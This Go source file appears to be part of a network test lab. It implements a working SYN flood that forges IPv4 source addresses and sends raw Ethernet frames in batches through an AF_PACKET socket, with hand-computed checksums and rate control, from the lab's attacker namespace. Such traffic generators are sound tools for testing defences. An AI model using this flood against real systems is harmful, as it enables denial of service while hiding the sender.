// SPDX-License-Identifier: Apache-2.0

package lab

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"time"
	"unsafe"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// Flood is SYNs from forged sources, sent as raw frames from the attacker.
type Flood struct {
	Sources netip.Prefix   // IPv4; each SYN comes from the next address of it
	Target  netip.AddrPort // IPv4
	Rate    int            // packets per second; 0: as fast as it goes
	Count   int            // packets at most; 0: until ctx ends
}

const batch = 64

// mmsghdr of sendmmsg(2).
type mmsghdr struct {
	header unix.Msghdr
	length uint32
	_      uint32
}

// Flood sends until ctx ends or Count is reached, and returns how many frames the
// kernel took.
func (l *Lab) Flood(ctx context.Context, f Flood) (sent int, err error) {
	err = l.In(Attacker, func() error {
		sent, err = f.run(ctx)
		return err
	})
	if err != nil {
		return sent, fmt.Errorf("flood: %w", err)
	}
	return sent, nil
}

func (f *Flood) run(ctx context.Context) (sent int, err error) {
	link, err := netlink.LinkByName("net0")
	if err != nil {
		return 0, err
	}
	neighbours, err := netlink.NeighList(link.Attrs().Index, netlink.FAMILY_V4)
	if err != nil || len(neighbours) == 0 {
		return 0, errors.Join(err, errors.New("no neighbour to send to"))
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: link.Attrs().Index}); err != nil {
		return 0, err
	}
	frames := f.frames([6]byte(neighbours[0].HardwareAddr), [6]byte(link.Attrs().HardwareAddr))
	began := time.Now()
	for ctx.Err() == nil && (f.Count == 0 || sent < f.Count) {
		n := batch
		if f.Count > 0 {
			n = min(n, f.Count-sent)
		}
		for i := range n {
			f.forge(frames[i][:], sent+i)
		}
		taken, err := sendBatch(fd, frames, n)
		sent += taken
		if err != nil && !errors.Is(err, unix.ENOBUFS) && !errors.Is(err, unix.EAGAIN) {
			return sent, err
		}
		if f.Rate > 0 {
			due := began.Add(time.Duration(float64(sent) / float64(f.Rate) * float64(time.Second)))
			time.Sleep(time.Until(due))
		}
	}
	return sent, nil
}

// synFrame is Ethernet, IPv4 and TCP without options.
const synFrame = 14 + 20 + 20

func (f *Flood) frames(to, from [6]byte) *[batch][synFrame]byte {
	var all [batch][synFrame]byte
	for i := range all {
		b := all[i][:]
		copy(b, to[:])
		copy(b[6:], from[:])
		b[12], b[13] = 0x08, 0x00
		ip, tcp := b[14:34], b[34:]
		ip[0], ip[3], ip[8], ip[9] = 0x45, 40, 64, unix.IPPROTO_TCP
		dst := f.Target.Addr().As4()
		copy(ip[16:], dst[:])
		binary.BigEndian.PutUint16(tcp[2:], f.Target.Port())
		tcp[12], tcp[13] = 5<<4, 0x02
		binary.BigEndian.PutUint16(tcp[14:], 0xffff)
	}
	return &all
}

// forge makes frame number n: its source, port, sequence number and checksums.
func (f *Flood) forge(b []byte, n int) {
	ip, tcp := b[14:34], b[34:]
	size := uint32(1) << (32 - f.Sources.Bits())
	first := f.Sources.Masked().Addr().As4()
	binary.BigEndian.PutUint32(ip[12:], binary.BigEndian.Uint32(first[:])+uint32(n)%size)
	binary.BigEndian.PutUint16(tcp, uint16(1024+uint32(n)*7919%64000))
	binary.BigEndian.PutUint32(tcp[4:], uint32(n)*2654435761)
	ip[10], ip[11], tcp[16], tcp[17] = 0, 0, 0, 0
	binary.BigEndian.PutUint16(ip[10:], ^fold(sum(ip)))
	pseudo := sum(ip[12:20]) + unix.IPPROTO_TCP + 20
	binary.BigEndian.PutUint16(tcp[16:], ^fold(pseudo+sum(tcp)))
}

func sum(b []byte) uint32 {
	s := uint32(0)
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	return s
}

func fold(s uint32) uint16 {
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return uint16(s)
}

func sendBatch(fd int, frames *[batch][synFrame]byte, n int) (int, error) {
	var iov [batch]unix.Iovec
	var messages [batch]mmsghdr
	for i := range n {
		iov[i].Base = &frames[i][0]
		iov[i].SetLen(synFrame)
		messages[i].header.Iov = &iov[i]
		messages[i].header.SetIovlen(1)
	}
	taken, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&messages[0])), uintptr(n), 0, 0, 0)
	if errno != 0 {
		return 0, errno
	}
	return int(taken), nil
}
